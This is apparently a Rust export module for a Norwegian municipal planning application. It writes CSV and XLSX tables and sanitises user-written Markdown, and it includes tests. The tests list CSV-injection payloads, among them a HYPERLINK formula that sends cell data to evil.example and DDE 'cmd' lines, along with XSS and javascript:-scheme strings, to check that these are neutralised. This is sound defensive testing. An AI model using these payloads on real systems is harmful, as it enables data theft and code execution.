//! Everything that leaves Rødtråd as a file: CSV and XLSX tables, JSON-stat datasets (which are also read here).

pub mod jsonstat;

pub mod chart;

pub mod pdf;

pub mod ical;

use rust_xlsxwriter::{Format, Workbook, XlsxError};

/// One cell of an exported table: text, or a number the application formatted itself.
///
/// Spreadsheet programs run a CSV cell that begins with `=`, `+`, `-` or `@` (or with a tab or carriage
/// return before one) as a formula, so [`csv_table`] neutralises text cells as OWASP advises (see
/// [`neutralise`]). A number written by the application stays a number, also a negative one: a
/// [`Cell`] made by [`Cell::number`] or [`Cell::decimal_comma`] holds only what Rust's own float
/// formatting gives, which cannot be a formula, and no caller can put other text into it. Text that
/// merely looks like a number (a title "-5") is text and is neutralised like any other text.
#[derive(Debug, Clone, PartialEq)]
pub struct Cell {
    text: String,
    number: bool,
}

impl Cell {
    /// Text, neutralised in CSV when it could run as a formula.
    pub fn text(text: impl Into<String>) -> Self {
        Self { text: text.into(), number: false }
    }

    /// A number with a decimal point (`-1.5`).
    pub fn number(value: f64) -> Self {
        Self { text: value.to_string(), number: true }
    }

    /// A number with a decimal comma (`-1,5`), as Norwegian spreadsheets and the U4SSC import read it.
    pub fn decimal_comma(value: f64) -> Self {
        Self { text: value.to_string().replace('.', ","), number: true }
    }

    /// An exact decimal (`-1234.50`), e.g. an amount of money that a float would round. Anything
    /// that is not such a number becomes a text cell, neutralised like other text.
    pub fn exact(value: &str) -> Self {
        let digits = value.strip_prefix('-').unwrap_or(value);
        let number = !digits.is_empty()
            && !digits.starts_with('.')
            && !digits.ends_with('.')
            && digits.matches('.').count() <= 1
            && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.');
        Self { text: value.to_owned(), number }
    }

    /// Whether the cell holds a number the application wrote.
    pub fn is_number(&self) -> bool {
        self.number
    }

    /// The cell's text as the application wrote it (what an XLSX string cell holds).
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// The cell as it goes into a CSV file.
    fn csv_text(&self) -> std::borrow::Cow<'_, str> {
        if self.number { self.text.as_str().into() } else { neutralise(&self.text) }
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Self::text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::text(text)
    }
}

/// Text for a CSV cell that no spreadsheet runs as a formula: text beginning with `=`, `+`, `-`, `@`,
/// a tab or a carriage return gets a leading `'` (OWASP, "CSV Injection"). The `'` shows in the cell,
/// which is the price of opening the file safely; the original text is in the XLSX export and the API.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}").into() } else { text.into() }
}

/// Reads the first worksheet of an XLSX file as rows of text with their 1-based row numbers, the
/// way a CSV file's fields arrive: text as it is, a number in its shortest exact decimal form
/// (`1234.56`, never `1234.5599999`), a date as `yyyy-mm-dd`, empty rows left out. `Err` with the
/// reason when the bytes are not a workbook.
pub fn xlsx_rows(bytes: &[u8]) -> Result<Vec<(usize, Vec<String>)>, String> {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).map_err(|e: calamine::XlsxError| e.to_string())?;
    let range = book.worksheet_range_at(0).ok_or("no worksheet")?.map_err(|e| e.to_string())?;
    let first_row = range.start().map_or(0, |(r, _)| r as usize);
    let mut rows = Vec::new();
    for (i, row) in range.rows().enumerate() {
        let fields: Vec<String> = row
            .iter()
            .map(|cell| match cell {
                Data::Int(n) => n.to_string(),
                Data::Float(f) => format!("{f}"),
                Data::String(s) | Data::DateTimeIso(s) | Data::DurationIso(s) => s.trim().to_owned(),
                Data::Bool(b) => b.to_string(),
                Data::DateTime(d) => excel_date(d.as_f64()),
                Data::Error(e) => format!("#{e}"),
                Data::Empty => String::new(),
            })
            .collect();
        if fields.iter().any(|f| !f.is_empty()) {
            rows.push((first_row + i + 1, fields));
        }
    }
    Ok(rows)
}

/// An Excel serial date (days since 1899-12-30) as `yyyy-mm-dd`.
fn excel_date(serial: f64) -> String {
    // Howard Hinnant's civil-from-days, from the Unix epoch (serial 25569).
    let z = serial.floor() as i64 - 25569 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!("{year:04}-{month:02}-{day:02}")
}

/// Writes a table as CSV with a header row, in UTF-8 with a BOM so spreadsheet programs
/// used in Norwegian municipalities open æ, ø and å correctly; `;` separates, as Excel expects
/// with Norwegian regional settings. Every text cell, the header included, is [`neutralise`]d.
pub fn csv_table<C: Into<Cell> + Clone>(header: &[&str], rows: &[Vec<C>]) -> Result<Vec<u8>, csv::Error> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut writer = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut out);
        writer.write_record(header.iter().map(|h| neutralise(h).into_owned()))?;
        for row in rows {
            writer.write_record(row.iter().map(|c| c.clone().into().csv_text().into_owned()))?;
        }
        writer.flush()?;
    }
    Ok(out)
}

/// Writes a table as an XLSX workbook: a title row, a bold header row with a filter, frozen
/// panes below it, and column widths fitted to the content (within bounds). Every cell is written
/// as a string cell, which a spreadsheet never evaluates, so no text is changed.
pub fn xlsx_table<C: Into<Cell> + Clone>(
    sheet: &str,
    title: &str,
    header: &[&str],
    rows: &[Vec<C>],
) -> Result<Vec<u8>, XlsxError> {
    let rows: Vec<Vec<Cell>> = rows.iter().map(|r| r.iter().map(|c| c.clone().into()).collect()).collect();
    let header: Vec<String> = header.iter().map(|h| (*h).to_owned()).collect();
    let mut workbook = Workbook::new();
    write_sheet(&mut workbook, &Sheet { name: sheet.to_owned(), title: title.to_owned(), header, rows })?;
    workbook.save_to_buffer()
}

/// One sheet of a workbook made by [`xlsx_workbook`].
#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    /// The sheet's name (at most 31 characters are kept).
    pub name: String,
    /// The title in its first row.
    pub title: String,
    /// Column headings.
    pub header: Vec<String>,
    /// The rows.
    pub rows: Vec<Vec<Cell>>,
}

fn write_sheet(workbook: &mut Workbook, sheet: &Sheet) -> Result<(), XlsxError> {
    let ws = workbook.add_worksheet();
    // Sheet names are limited to 31 characters and some punctuation.
    let name: String = sheet.name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
    ws.set_name(if name.is_empty() { "Ark1" } else { &name })?;
    let bold = Format::new().set_bold();
    let title_format = Format::new().set_bold().set_font_size(14);
    let wrap = Format::new().set_text_wrap();
    ws.write_string_with_format(0, 0, &sheet.title, &title_format)?;
    for (c, h) in sheet.header.iter().enumerate() {
        ws.write_string_with_format(2, c as u16, h, &bold)?;
    }
    for (r, row) in sheet.rows.iter().enumerate() {
        for (c, value) in row.iter().enumerate() {
            ws.write_string_with_format(3 + r as u32, c as u16, value.as_str(), &wrap)?;
        }
    }
    for (c, h) in sheet.header.iter().enumerate() {
        let longest = sheet
            .rows
            .iter()
            .filter_map(|r| r.get(c))
            .map(|v| v.as_str().chars().count())
            .chain([h.chars().count()])
            .max();
        ws.set_column_width(c as u16, longest.unwrap_or(10).clamp(8, 60) as f64 + 2.0)?;
    }
    if !sheet.header.is_empty() {
        ws.autofilter(2, 0, 2 + sheet.rows.len() as u32, sheet.header.len() as u16 - 1)?;
        ws.set_freeze_panes(3, 0)?;
    }
    Ok(())
}

/// A workbook of several sheets, each laid out as [`xlsx_table`] lays out its one, with the
/// document's title and creation date set from the arguments (`(year, month, day)`), not the
/// clock: the same sheets give the same bytes, so a frozen report's workbook never changes.
pub fn xlsx_workbook(title: &str, sheets: &[Sheet], created: (u16, u8, u8)) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let date = rust_xlsxwriter::ExcelDateTime::from_ymd(created.0, created.1, created.2)?;
    workbook.set_properties(&rust_xlsxwriter::DocProperties::new().set_title(title).set_creation_datetime(&date));
    for sheet in sheets {
        write_sheet(&mut workbook, sheet)?;
    }
    workbook.save_to_buffer()
}

/// The two table formats a list is downloaded in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TableFormat {
    /// CSV as [`csv_table`] writes it.
    Csv,
    /// XLSX as [`xlsx_table`] writes it.
    Xlsx,
}

impl TableFormat {
    /// The media type of the file.
    pub fn mime(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8",
            Self::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }

    /// The file name's extension.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Xlsx => "xlsx",
        }
    }
}

/// Writing a table failed (only a bug or running out of memory can cause it).
#[derive(Debug)]
pub enum TableError {
    /// From the CSV writer.
    Csv(csv::Error),
    /// From the XLSX writer.
    Xlsx(XlsxError),
}

impl std::fmt::Display for TableError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Csv(e) => write!(f, "CSV: {e}"),
            Self::Xlsx(e) => write!(f, "XLSX: {e}"),
        }
    }
}

impl std::error::Error for TableError {}

/// A table in either format: [`csv_table`] (the sheet name and title are not part of a CSV file)
/// or [`xlsx_table`] with `sheet` and `title`.
pub fn table<C: Into<Cell> + Clone>(
    format: TableFormat,
    sheet: &str,
    title: &str,
    header: &[&str],
    rows: &[Vec<C>],
) -> Result<Vec<u8>, TableError> {
    match format {
        TableFormat::Csv => csv_table(header, rows).map_err(TableError::Csv),
        TableFormat::Xlsx => xlsx_table(sheet, title, header, rows).map_err(TableError::Xlsx),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Reader, Xlsx};

    #[test]
    fn xlsx_rows_read_back_text_numbers_and_dates() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "Ansvar").unwrap();
        sheet.write_string(0, 1, "Beløp").unwrap();
        sheet.write_string(1, 0, "1100").unwrap();
        sheet.write_number(1, 1, 1234.56).unwrap();
        let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2026, 3, 31).unwrap();
        let format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
        sheet.write_datetime_with_format(2, 0, &date, &format).unwrap();
        sheet.write_number(2, 1, 0.1).unwrap();
        let bytes = book.save_to_buffer().unwrap();
        let rows = super::xlsx_rows(&bytes).unwrap();
        assert_eq!(rows[1], (2, vec!["1100".to_owned(), "1234.56".to_owned()]));
        assert_eq!(rows[2], (3, vec!["2026-03-31".to_owned(), "0.1".to_owned()]));
        assert!(super::xlsx_rows(b"not a workbook").is_err());
    }

    #[test]
    fn csv_quotes_separators_and_keeps_norwegian_letters() {
        let bytes = csv_table(&["navn", "notat"], &[vec!["Bjørnstad; Ås", "sa \"hei\""]]).unwrap();
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(text, "navn;notat\n\"Bjørnstad; Ås\";\"sa \"\"hei\"\"\"\n");
    }

    #[test]
    fn one_table_either_format() {
        let rows = vec![vec!["Bjørnstad".to_owned(), "=1+1".to_owned()]];
        let csv = table(TableFormat::Csv, "Ark", "Tittel", &["navn", "notat"], &rows).unwrap();
        assert_eq!(csv, csv_table(&["navn", "notat"], &rows).unwrap(), "exactly what csv_table writes");
        let xlsx = table(TableFormat::Xlsx, "Ark", "Tittel", &["navn", "notat"], &rows).unwrap();
        assert_eq!(&xlsx[..2], b"PK", "a zip container");
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
        let sheet = book.worksheet_range("Ark").unwrap();
        assert_eq!(sheet.get_value((0, 0)).map(ToString::to_string).as_deref(), Some("Tittel"));
        assert_eq!(sheet.get_value((3, 1)).map(ToString::to_string).as_deref(), Some("=1+1"));
        assert_eq!((TableFormat::Csv.extension(), TableFormat::Xlsx.extension()), ("csv", "xlsx"));
        assert!(TableFormat::Csv.mime().starts_with("text/csv"));
    }

    /// The payloads of OWASP's CSV-injection page and the issue, each as a whole cell.
    const FORMULAS: [&str; 8] = [
        "=HYPERLINK(\"https://evil.example?\"&A1,\"Klikk\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1;\"=2+2\"",
        "-",
    ];

    /// The cells of a CSV file written by [`csv_table`], read back as a spreadsheet would split them.
    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(&bytes[3..]);
        reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn csv_text_that_a_spreadsheet_would_run_is_neutralised() {
        let rows: Vec<Vec<String>> = FORMULAS.iter().map(|f| vec![f.to_string(), "trygg tekst".into()]).collect();
        let cells = read_back(&csv_table(&["=tittel", "notat"], &rows).unwrap());
        assert_eq!(cells[0], ["'=tittel", "notat"]);
        for (formula, row) in FORMULAS.iter().zip(&cells[1..]) {
            assert_eq!(row[0], format!("'{formula}"), "{formula:?}");
            assert_eq!(row[1], "trygg tekst");
        }
        // Text that only contains such characters later on is left alone.
        let plain = read_back(&csv_table(&["a"], &[vec!["Mål = 2 + 2 - 1 @ kl. 12"]]).unwrap());
        assert_eq!(plain[1], ["Mål = 2 + 2 - 1 @ kl. 12"]);
    }

    #[test]
    fn numbers_the_application_writes_stay_numbers_and_look_alike_text_does_not() {
        let rows = vec![
            vec![Cell::number(-1.5), Cell::decimal_comma(-2.25), Cell::number(3.0), Cell::text("-5")],
            vec![Cell::number(f64::NAN), Cell::decimal_comma(0.5), Cell::text("+47 123"), "@".into()],
        ];
        let cells = read_back(&csv_table(&["a", "b", "c", "d"], &rows).unwrap());
        assert_eq!(cells[1], ["-1.5", "-2,25", "3", "'-5"]);
        assert_eq!(cells[2], ["NaN", "0,5", "'+47 123", "'@"]);
    }

    #[test]
    fn xlsx_keeps_formula_text_as_strings() {
        let rows: Vec<Vec<Cell>> = FORMULAS.iter().map(|f| vec![Cell::text(*f), Cell::number(-1.0)]).collect();
        let bytes = xlsx_table("Ark", "Tittel", &["Tekst", "Tall"], &rows).unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let formulas = book.worksheet_formula("Ark").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a cell holds a formula");
        let range = book.worksheet_range("Ark").unwrap();
        for (r, formula) in FORMULAS.iter().enumerate() {
            let cell = range.get_value((3 + r as u32, 0)).unwrap();
            assert_eq!(cell, &calamine::Data::String(formula.to_string()), "the text is kept as it was written");
            assert_eq!(range.get_value((3 + r as u32, 1)).unwrap(), &calamine::Data::String("-1".into()));
        }
    }

    #[test]
    fn xlsx_holds_title_header_and_rows() {
        let rows = vec![
            vec!["Hovedmål".to_owned(), "Alle har gode liv".to_owned()],
            vec!["Tiltak".into(), "Bygg ny skole".into()],
        ];
        let bytes = xlsx_table("Kommuneplan: 2020/2032", "Kommuneplan", &["Nivå", "Tekst"], &rows).unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(book.sheet_names(), vec!["Kommuneplan 20202032".to_owned()]);
        let range = book.worksheet_range("Kommuneplan 20202032").unwrap();
        let cell = |r: u32, c: u32| range.get_value((r, c)).map(|v| v.to_string()).unwrap_or_default();
        assert_eq!(cell(0, 0), "Kommuneplan");
        assert_eq!((cell(2, 0), cell(2, 1)), ("Nivå".into(), "Tekst".into()));
        assert_eq!((cell(4, 0), cell(4, 1)), ("Tiltak".into(), "Bygg ny skole".into()));
    }
}

/// Renders user-written Markdown to HTML that is safe to show: raw HTML in the source is escaped by
/// the sanitiser's allow-list (no scripts, no event handlers, no inline styles), and links get
/// `rel="noopener noreferrer"`.
pub fn markdown_to_safe_html(source: &str) -> String {
    use pulldown_cmark::{Options, Parser, html};
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    let mut unsafe_html = String::new();
    html::push_html(&mut unsafe_html, Parser::new_ext(source, options));
    ammonia::Builder::default()
        .link_rel(Some("noopener noreferrer"))
        .url_schemes(["http", "https", "mailto"].into())
        .clean(&unsafe_html)
        .to_string()
}

#[cfg(test)]
mod markdown_tests {
    use super::markdown_to_safe_html;

    #[test]
    fn markdown_renders_and_scripts_do_not() {
        let html = markdown_to_safe_html(
            "## Mål\n\nVi vil **samarbeide** med [frivilligheten](https://asker.kommune.no).\n\n- én\n- to",
        );
        assert!(html.contains("<h2>Mål</h2>"));
        assert!(html.contains("<strong>samarbeide</strong>"));
        assert!(html.contains("<a href=\"https://asker.kommune.no\" rel=\"noopener noreferrer\">frivilligheten</a>"));
        assert!(html.contains("<li>én</li>"));
        for evil in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[klikk](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div style=\"position:fixed\">x</div>",
            "<iframe src=\"https://evil.example\"></iframe>",
        ] {
            let out = markdown_to_safe_html(evil);
            for bad in ["<script", "onerror", "javascript:", "style=", "<iframe"] {
                assert!(!out.contains(bad), "{evil:?} gave {out:?}");
            }
        }
    }

    /// Found by fuzzing (`fuzz/regressions/markdown/`): control characters inside a link's scheme.
    /// Browsers remove tabs and line breaks before reading the scheme, so those must not smuggle in
    /// `javascript:`; any other control character makes the address relative, which is harmless.
    #[test]
    fn control_characters_do_not_smuggle_a_scheme_into_links() {
        for hidden in ["&#9;", "&#10;", "&#13;", "\t"] {
            let out = markdown_to_safe_html(&format!("<a href=\"java{hidden}script:alert(1)\">x</a>"));
            assert!(!out.contains("href"), "{hidden:?} gave {out:?}");
        }
        let out = markdown_to_safe_html("<a href=\"JaVa&#11;script:x\">y</a>");
        assert!(out.contains("<a href=\"JaVa\u{b}script:x\" rel=\"noopener noreferrer\">y</a>"), "{out:?}");
    }
}
